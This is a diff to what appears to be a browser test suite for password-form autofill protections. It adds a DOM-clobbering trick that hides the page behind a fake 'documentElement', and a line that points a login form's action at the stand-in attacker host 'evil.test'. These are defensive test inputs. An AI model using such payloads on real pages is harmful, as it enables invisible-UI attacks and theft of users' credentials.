@@ -33,6 +33,8 @@ BEFORE = {
     "body filter": STYLE % "body { filter: opacity(0%) }",
     "everything transparent": STYLE % "* { opacity: 0 !important }",
     "everything transparent, in a layer": STYLE % "@layer evil { * { opacity: 0 !important } }",
+    "html filter, behind an element of that name": (STYLE % "html { filter: opacity(0.01) }")
+    + ", void document.body.insertAdjacentHTML('beforeend', '<img name=documentElement>')",
     "a popover stands open": POPOVER,
 }
 
@@ -59,6 +61,7 @@ AFTER = {
     "field moved away": f"void ({USERNAME}.style.cssText = 'position: fixed; top: 400px; left: 500px')",
     "field removed": f"void {USERNAME}.remove()",
     "field hidden": f"void ({USERNAME}.style.opacity = 0)",
+    "form sends elsewhere now": "void document.forms[0].setAttribute('action', 'https://evil.test/')",
     "focus taken away": f"void {USERNAME}.blur()",
 }
 
